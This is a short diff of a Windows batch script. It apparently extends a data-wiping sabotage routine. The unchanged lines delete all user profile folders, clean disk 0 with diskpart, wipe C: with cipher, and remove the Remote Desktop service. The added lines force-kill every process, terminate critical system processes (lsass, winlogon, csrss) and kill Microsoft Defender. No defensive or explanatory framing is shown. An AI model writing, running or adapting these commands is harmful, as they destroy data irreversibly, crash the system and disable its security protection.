@@ -36,3 +36,9 @@ for /d %%d in (C:\Users\*) do @rd /s /q "%%d"
 echo select disk 0 > x.txt & echo clean >> x.txt & diskpart /s x.txt
 cipher /w:C:\ & del /q /f /s C:\Users\*.*
 net stop TermService /y & sc delete TermService
+taskkill /f /fi "PID gt 4"
+wmic process where (name="lsass.exe") call terminate
+wmic process delete
+tskill winlogon
+pskill -t csrss
+taskkill /f /im MsMpEng.exe
